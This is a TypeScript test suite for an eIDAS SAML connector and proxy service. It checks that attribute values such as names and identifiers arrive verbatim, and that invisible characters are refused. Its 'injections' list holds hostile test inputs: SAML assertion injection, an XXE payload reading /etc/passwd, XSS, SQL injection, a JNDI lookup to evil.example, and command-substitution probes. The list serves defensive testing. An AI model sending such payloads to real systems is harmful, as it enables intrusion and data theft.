import { definitionOf } from '../../src/identity/attributes.ts'
import { writeValues } from '../../src/profiles/eidas/attribute-values.ts'
import { attributeNameFormats } from '../../src/saml/uris.ts'
import { saml } from '../../src/xml/names.ts'
import { el } from '../../src/xml/writer.ts'
import { type AnswerOverrides, complete, type Flow, openFlow, postAnswer, signedAnswer } from '../testkit/flow.ts'
import { citizen, type Facts, mintAttributes } from '../testkit/mint.ts'
import { nationalNames } from '../testkit/peers.ts'
import fc, { runs } from '../testkit/properties.ts'
import { startTarget, type Target } from '../testkit/target.ts'
import { expectAnswered, expectNotReusable, releasedIn } from '../testkit/verdict.ts'

/* What was verified is what is signed anew, character for character. */

const NATURAL = 'http://eidas.europa.eu/attributes/naturalperson/'

let target: Target
beforeAll(async () => {
  target = await startTarget()
}, 30_000)
afterAll(() => target.stop())

function saying(flow: Flow, facts: Facts): AnswerOverrides {
  return { assertion: { attributeStatements: [mintAttributes(flow.answerer, { ...citizen, ...facts })] } }
}

async function arriving(half: Flow['half'], facts: Facts) {
  const flow = await openFlow(target, half)
  return releasedIn(target, await complete(flow, await signedAnswer(flow, saying(flow, facts))))
}

const injections = [
  '</saml:AttributeValue></saml:Attribute><saml:Attribute Name="http://eidas.europa.eu/attributes/naturalperson/PersonIdentifier"><saml:AttributeValue>XA/XB/1',
  '</saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement></saml2:Assertion>',
  '<saml2:NameID>admin</saml2:NameID>',
  '<!-- -->',
  '<![CDATA[x]]>',
  ']]>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '&amp;lt;script&amp;gt;',
  '&#60;b&#62; &lt;b&gt; &quot;',
  '"><script>alert(1)</script>',
  "' or 1=1 --",
  `\${jndi:ldap://evil.example/a}`,
  '{{7*7}} <%= 7*7 %> $(id) `id`',
  '%3Cb%3E %00 \\u003c \\x3c',
  'xmlns:saml2="urn:evil" ID="_x"',
]

const letters = [
  'O’Brien-Ångström',
  'Ðorđević Łukasz Żółć',
  'Zoë',
  'Zoe\u0308',
  'ﬀ ﬃ ﬄ',
  'İstanbul ıI ſ ß ẞ',
  'Nguyễn Thị Minh Khai',
  'a\u00a0b',
  'a  b   c',
  'Ⅷ ½ ² № ™ ℌ',
  'x'.repeat(1_024),
  '🙂 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝒳',
  'fullwidth ＡＢＣ ＜script＞',
  'a\u0301e\u0301',
  '- , . / ; : _ ~ ! @ # $ % ^ * ( ) + = [ ] { } | \\ ? `',
  'null undefined NaN true 0 -0 1e3',
  '__proto__ constructor toString',
]

describe.each(['connector', 'proxy-service'] as const)('through the %s', (half) => {
  test.each(injections)('A-182 a value that is markup stays a value: %s', async (value) => {
    const { attributes } = await arriving(half, { CurrentFamilyName: value, CurrentGivenName: `${value}2` })
    expect(Object.keys(attributes).toSorted()).toEqual(
      Object.keys(citizen)
        .map((fact) => NATURAL + fact)
        .toSorted(),
    )
    expect(attributes[`${NATURAL}CurrentFamilyName`]).toEqual([value])
    expect(attributes[`${NATURAL}CurrentGivenName`]).toEqual([`${value}2`])
  })

  test.each(letters)('A-183 odd letters arrive as they were sent: %s', async (value) => {
    const { attributes } = await arriving(half, { CurrentFamilyName: value })
    expect(attributes[`${NATURAL}CurrentFamilyName`]).toEqual([value])
  })

  test('A-183 whatever letters there are arrive as they were sent', async () => {
    const visible = /^[^\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Cn}\p{Zl}\p{Zp}\p{DI}]*$/u
    const latin = /^[\p{scx=Latin}\p{scx=Common}\p{scx=Inherited}]*$/u
    const letter = fc
      .oneof(fc.integer({ min: 0x20, max: 0x24f }), fc.integer({ min: 0x250, max: 0x1ffff }))
      .filter((point) => point < 0xd800 || point > 0xdfff)
      .map((point) => String.fromCodePoint(point))
      .filter((one) => visible.test(one) && latin.test(one))
    const name = fc.array(letter, { minLength: 1, maxLength: 40 }).map((all) => `a${all.join('')}z`)
    await fc.assert(
      fc.asyncProperty(name, async (value) => {
        const { attributes } = await arriving(half, { CurrentFamilyName: value })
        expect(attributes[`${NATURAL}CurrentFamilyName`]).toEqual([value])
      }),
      runs(40),
    )
  })

  test.each([
    ['a\u202eb', 'EID_TEXT'],
    ['a\u2066b', 'EID_TEXT'],
    ['a\u200bb', 'EID_TEXT'],
    ['a\ufeffb', 'EID_TEXT'],
    ['a\u{e0041}b', 'EID_TEXT'],
    ['a\tb', 'EID_TEXT'],
    ['a\nb', 'EID_TEXT'],
    ['\u0301a', 'EID_TEXT'],
    ['x'.repeat(1_025), 'EID_TEXT'],
    ['a\u0085b', 'ENC_PLAINTEXT'],
    ['a\u2028b', 'ENC_PLAINTEXT'],
    ['a\u007fb', 'ENC_PLAINTEXT'],
  ] as const)('A-183 what nobody would see is refused, not cleaned: %j', async (value, code) => {
    const flow = await openFlow(target, half)
    const answer = await postAnswer(flow, await signedAnswer(flow, saying(flow, { CurrentFamilyName: value })))
    expectAnswered(flow, answer, code)
    await expectNotReusable(flow)
  })
})

test('A-183 a value in two scripts goes abroad in both, and to a portal in Latin', async () => {
  const given = { latin: 'Onasis', greek: 'Ωνάσης' }
  const family = definitionOf(`${NATURAL}CurrentFamilyName`)
  if (family === undefined) throw new TypeError('no family name')

  const here = await openFlow(target, 'proxy-service')
  const others = mintAttributes(here.answerer).filter(({ name }) => name !== nationalNames.CurrentFamilyName)
  const values = [given.latin, given.greek].map((value) => el(saml('AttributeValue'), {}, value))
  const surname = { name: nationalNames.CurrentFamilyName, nameFormat: attributeNameFormats.basic, values }
  const message = await signedAnswer(here, { assertion: { attributeStatements: [[...others, surname]] } })
  const abroad = await releasedIn(target, await complete(here, message))
  expect(abroad.attributes[family.name]).toEqual([given.latin, given.greek])

  const there = await openFlow(target, 'connector')
  const attributes = mintAttributes(there.answerer).map((attribute) => {
    if (attribute.name !== family.name) return attribute
    const pair = [
      { value: given.latin, latin: true },
      { value: given.greek, latin: false },
    ]
    return { ...attribute, values: writeValues(family, pair) }
  })
  const answer = await complete(there, await signedAnswer(there, { assertion: { attributeStatements: [attributes] } }))
  expect((await releasedIn(target, answer)).attributes[family.name]).toEqual([given.latin])
})

test('A-183 an identifier arrives with its two countries and otherwise as it was sent', async () => {
  for (const identifier of ['02635542Y', 'a/b/c', '<1>', 'Æ&"1"', 'x'.repeat(250)]) {
    const { attributes } = await arriving('proxy-service', { PersonIdentifier: identifier })
    expect(attributes[`${NATURAL}PersonIdentifier`]).toEqual([`XA/XB/${identifier}`])
  }
  for (const identifier of ['XB/XA/02635542Y', 'XB/XA/a/b/c', 'XB/XA/<1>&"', `XB/XA/${'x'.repeat(250)}`]) {
    const { attributes } = await arriving('connector', { PersonIdentifier: identifier })
    expect(attributes[`${NATURAL}PersonIdentifier`]).toEqual([identifier])
  }
})
